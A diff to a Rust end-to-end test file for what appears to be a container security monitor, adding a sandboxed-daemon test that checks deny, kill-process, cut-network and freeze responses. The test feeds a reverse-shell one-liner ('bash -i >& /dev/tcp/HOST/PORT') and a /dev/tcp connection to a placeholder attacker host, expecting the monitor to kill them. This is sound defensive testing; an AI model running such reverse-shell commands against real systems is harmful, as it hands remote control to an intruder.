@@ -11,10 +11,15 @@ use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
-use coi_tests::{Attacker, Coi, DEADLINE, DEFAULT, Daemon, Running, end, incus, program};
+use coi_tests::incus::Foreign;
+use coi_tests::{
+    Attacker, Coi, DEADLINE, DEFAULT, Daemon, Running, TINY, actions, alerts, audit, end, eventually, incus,
+    program, text,
+};
 use nix::sys::ptrace;
 use nix::sys::signal::Signal;
 use nix::unistd::Pid;
+use serde_json::Value;
 use tempfile::TempDir;
 
 /// How often a sign of life is asked for, in microseconds.
@@ -183,18 +188,150 @@ fn it_serves_systemds_socket_and_shows_that_its_monitor_lives() {
     service.end();
 }
 
-#[test]
-fn its_capabilities_are_enough() {
-    let (_root, units) = installed();
-    let capabilities = setting(&units, "CapabilityBoundingSet").to_lowercase();
+/// What the unit makes of the file system, as far as it can be had without systemd: all of it read-only but the daemon's
+/// own directories and cgroups, and no devices but those that everybody has. Then what it makes of the capabilities.
+/// `$SOCKET` is in the daemon's directory.
+const SANDBOX: &str = r#"#!/bin/sh
+export OWN="$(dirname "$COI_SOCKET")" CAPABILITIES="@CAPABILITIES@"
+exec unshare --mount --propagation private sh -ec '
+    mount --rbind "$OWN" "$OWN"
+    mkdir -p "$OWN/dev"
+    mount -t tmpfs none "$OWN/dev"
+    for device in null zero full random urandom tty; do
+        : >"$OWN/dev/$device"
+        mount --bind "/dev/$device" "$OWN/dev/$device"
+    done
+    cut -d " " -f 5 /proc/self/mountinfo | while read -r point; do
+        case $point in
+            "$OWN" | "$OWN"/* | /dev | /dev/* | /proc | /proc/* | /sys/fs/cgroup | /sys/fs/cgroup/*) ;;
+            *) mount -o remount,bind,ro "$point" || echo "$point stays writable" >&2 ;;
+        esac
+    done
+    mount --bind /proc/sys /proc/sys
+    mount -o remount,bind,ro /proc/sys
+    mount --move "$OWN/dev" /dev
+    exec setpriv --no-new-privs --inh-caps=-all --bounding-set="-all,$CAPABILITIES" "$@"
+' sh "$@"
+"#;
+
+/// A program that starts another one as the unit does.
+fn sandbox(units: &Path, at: &Path) -> PathBuf {
+    for (key, value) in [
+        ("ProtectSystem", "strict"),
+        ("ProtectHome", "read-only"),
+        ("PrivateDevices", "yes"),
+        ("ProtectKernelTunables", "yes"),
+        ("ProtectControlGroups", "no"),
+        ("NoNewPrivileges", "yes"),
+    ] {
+        assert_eq!(setting(units, key), value, "{key}: the sandbox of this test is another one");
+    }
+    let capabilities = setting(units, "CapabilityBoundingSet").to_lowercase();
     let capabilities: Vec<_> =
         capabilities.split(' ').map(|name| format!("+{}", name.strip_prefix("cap_").unwrap())).collect();
-    let setpriv =
-        format!("setpriv --no-new-privs --inh-caps=-all --bounding-set=-all,{}", capabilities.join(","));
-    let coi = Coi::with_daemon_by(&setpriv);
+    let script = at.join("sandbox");
+    fs::write(&script, SANDBOX.replace("@CAPABILITIES@", &capabilities.join(","))).unwrap();
+    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
+    script
+}
+
+/// One rule for each answer. What tells does so as `nobody`, whose number is what it ends with.
+const ANSWERS: &str = r#"
+    [[rule]]
+    id = "denied"
+    title = "t"
+    severity = "warning"
+    action = "deny"
+    event = "connect"
+    condition = "destination.port == 9999"
+
+    [[rule]]
+    id = "ended"
+    title = "t"
+    severity = "warning"
+    action = "kill-process"
+    event = "open"
+    condition = "file.name == 'ended'"
+
+    [[rule]]
+    id = "severed"
+    title = "t"
+    severity = "high"
+    action = "cut-network"
+    event = "open"
+    condition = "file.name == 'severed'"
+"#;
+const TELLS: &str = r#"
+    [[notify]]
+    severity = "critical"
+    command = ["/bin/sh", "-c", "exit $(($(id -u) % 256))"]
+"#;
+
+#[test]
+fn every_answer_is_given_in_its_sandbox() {
+    let (_root, units) = installed();
+    let files = tempfile::tempdir().unwrap();
+    let at = |name: &str| files.path().join(name).to_str().unwrap().to_owned();
+    fs::write(at("rules.toml"), ANSWERS).unwrap();
+    fs::write(at("config.toml"), TELLS).unwrap();
+    let sandbox = sandbox(&units, files.path());
+    let arguments = ["--rules", &at("rules.toml"), "--config", &at("config.toml")];
+    let coi = Coi::with_daemon_by(sandbox.to_str().unwrap(), &arguments);
+    let daemon = coi.daemon().pid().unwrap();
+    let status = fs::read_to_string(format!("/proc/{daemon}/status")).unwrap();
+    let bounding = status.lines().find_map(|line| line.strip_prefix("CapBnd:")).unwrap().trim();
+    let count = setting(&units, "CapabilityBoundingSet").split(' ').count();
+    assert_eq!(u64::from_str_radix(bounding, 16).unwrap().count_ones() as usize, count);
+    let place = |path: &str| format!("/proc/{daemon}/root{path}");
+    fs::write(place("/etc/coi-e2e"), "").expect_err("the machine is writable in the sandbox");
+    assert!(!Path::new(&place("/dev/kmsg")).exists(), "there are devices in the sandbox");
+
+    // Refused; a process ended, and nothing else; the network cut; what stood still looked at before it is killed.
     let attacker = Attacker::on_bridge();
+    coi.write("ended", "");
+    coi.write("severed", "");
+    let script = "exec 2>&1; (exec 3<>/dev/tcp/HOST/9999); bash -c ': <ended; sleep 1000'; echo ended $?; \
+                  : <severed; until (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -q 'not permitted'; do :; done; echo severed";
+    let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill(script)]).expect(0);
+    let said = ended.text();
+    assert!(said.contains("Operation not permitted") && said.ends_with("ended 137\nsevered\n"), "{said}");
+    let done: Vec<_> = actions(&coi.audit(&coi.container()));
+    let wanted = [("denied", "deny"), ("ended", "kill-process"), ("severed", "cut-network")];
+    let wanted = wanted.map(|(rule, action)| (rule.to_owned(), action.to_owned(), "success".to_owned()));
+    assert_eq!(done, wanted);
+
     let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
-    coi.assert_killed(ended, "reverse-shell-socket");
+    let killed = ended.expect(137);
+    assert!(killed.stderr.contains("rule reverse-shell-socket (critical)"), "{}", killed.stderr);
+    let name = coi.container();
+    let records = coi.audit(&name);
+    let alert = alerts(&records).find(|alert| alert["coi"]["action"]["name"] == "kill").unwrap();
+    let evidence = fs::read(alert["coi"]["action"]["evidence"]["file"].as_str().unwrap()).unwrap();
+    let evidence: Value = serde_json::from_slice(&evidence).unwrap();
+    assert_eq!((&evidence["found"]["frozen"], &evidence["found"]["complete"]), (&true.into(), &true.into()));
+    let remote = attacker.address.to_string();
+    let processes = evidence["found"]["processes"].as_array().unwrap();
+    let holds = |process: &Value| {
+        process["sockets"].as_array().unwrap().iter().any(|socket| socket["remote"] == remote.as_str())
+    };
+    assert!(processes.iter().any(holds), "{evidence:#}");
+    // As `nobody`, 65534.
+    eventually("who is told was run", || {
+        audit::of_kind(&coi.audit(&name), "note")
+            .any(|note| text(&note["coi"]["message"]).contains("/bin/sh ended with exit code 254"))
+    });
+
+    // What outlives it freezes, and the next one, in a sandbox of its own, thaws.
+    let container = Foreign::make(TINY);
+    container.start();
+    let how = ["--respond", "--on-monitor-loss", "freeze", "--detach"];
+    coi.coi(&[&["monitor", "--attach", &container.name][..], &how].concat()).expect(0);
+    let events = incus::cgroups().join(format!("lxc.payload.{}/cgroup.events", container.name));
+    let is_frozen = || fs::read_to_string(&events).unwrap().contains("frozen 1");
+    coi.daemon().kill();
+    eventually("it is frozen", is_frozen);
+    coi.daemon().start_again();
+    assert!(!is_frozen());
 }
 
 #[test]
